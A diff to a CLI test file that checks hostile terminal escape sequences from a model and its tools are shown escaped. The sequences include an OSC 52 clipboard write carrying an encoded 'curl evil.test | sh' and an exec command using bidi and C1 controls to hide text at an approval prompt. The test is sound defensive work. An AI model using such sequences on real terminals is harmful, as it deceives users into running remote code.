@@ -1,15 +1,7 @@
 // Escape sequences from the model and from tools reach the real CLI's stdout and stderr escaped, never as
 // live controls: OSC 52 clipboard writes, title changes, clear screen, cursor moves, bidi overrides, C1.
-import { spawn } from 'node:child_process';
-import { join, resolve } from 'node:path';
-import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
-import { runCli } from '../../src-main/host/cli/main';
-import { ttyIo } from '../host/cli/cli-harness';
-import { startScriptedLlm, type ScriptedLlm } from '../helpers/scripted-llm-server';
-import { makeTempHome, testConfig, type TempHome } from '../helpers/temp-home';
-
-const ROOT = resolve(__dirname, '../..');
-const BIN = join(ROOT, 'bin', 'nanotray.mjs');
+import { describe, expect, it } from 'vitest';
+import { useCliHarness } from '../host/cli/cli-harness';
 
 /** Every sequence an attacker would send a terminal, one after the other. */
 const HOSTILE = [
@@ -25,37 +17,16 @@ const HOSTILE = [
 /** Anything a terminal would act on; CR is allowed only right before LF. */
 const LIVE_CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;
 
-let llm: ScriptedLlm;
-let home: TempHome;
-beforeAll(async () => {
-  llm = await startScriptedLlm();
-});
-afterAll(() => llm.close());
-afterEach(() => home?.cleanup());
-
-function runBin(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
-  return new Promise((r) => {
-    const child = spawn(process.execPath, [BIN, ...args], {
-      cwd: ROOT,
-      env: { PATH: process.env.PATH, HOME: home.home, NANOTRAY_HOME: home.home },
-      stdio: ['ignore', 'pipe', 'pipe'],
-    });
-    let stdout = '';
-    let stderr = '';
-    child.stdout.on('data', (d) => (stdout += d));
-    child.stderr.on('data', (d) => (stderr += d));
-    child.on('close', (code) => r({ code, stdout, stderr }));
-  });
-}
+const t = useCliHarness();
 
 describe('the CLI shows hostile text escaped', () => {
   it("the model's streamed answer and a tool's error, in a real `nanotray agent -m`", async () => {
-    home = makeTempHome(testConfig(llm.baseUrl));
-    llm.enqueue(
+    t.open();
+    t.llm.enqueue(
       { toolCalls: [{ name: 'read_file', arguments: { path: `missing ${HOSTILE}.txt` } }] },
       { text: ['Here:\n\tindented ', HOSTILE.slice(0, 3), HOSTILE.slice(3), '\r\nend'] },
     );
-    const { code, stdout, stderr } = await runBin(['agent', '-m', 'hi']);
+    const { code, out: stdout, err: stderr } = await t.spawn(['agent', '-m', 'hi']);
     expect(code).toBe(0);
     for (const [name, out] of [['stdout', stdout], ['stderr', stderr]] as const) expect([name, LIVE_CONTROL.exec(out)?.[0]]).toEqual([name, undefined]);
     expect(stdout).toContain('Here:\n\tindented \\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\\x07');
@@ -64,11 +35,9 @@ describe('the CLI shows hostile text escaped', () => {
   });
 
   it('the approval prompt on a terminal shows the escaped command, so nothing can hide part of it', async () => {
-    home = makeTempHome(testConfig(llm.baseUrl, { tools: { approval: { mode: 'ask' } } }));
-    llm.enqueue({ toolCalls: [{ name: 'exec', arguments: { command: `echo hi \u202e; echo pwned \u009b1A # ${HOSTILE}` } }] }, { text: 'ok' });
-    const io = ttyIo({ NANOTRAY_HOME: home.home }, ['n']);
-    const code = await runCli(['agent', '-m', 'go'], io);
-    const [out, err] = [io.out(), io.err()];
+    t.open({ tools: { approval: { mode: 'ask' } } });
+    t.llm.enqueue({ toolCalls: [{ name: 'exec', arguments: { command: `echo hi \u202e; echo pwned \u009b1A # ${HOSTILE}` } }] }, { text: 'ok' });
+    const { code, out, err } = await t.runOnTty(['agent', '-m', 'go'], ['n']);
     expect(code).toBe(0);
     expect(err).toContain('Approval needed: exec');
     // JSON already writes ESC as \u001b; the bidi override and the C1 CSI it leaves as they are, the CLI does not.
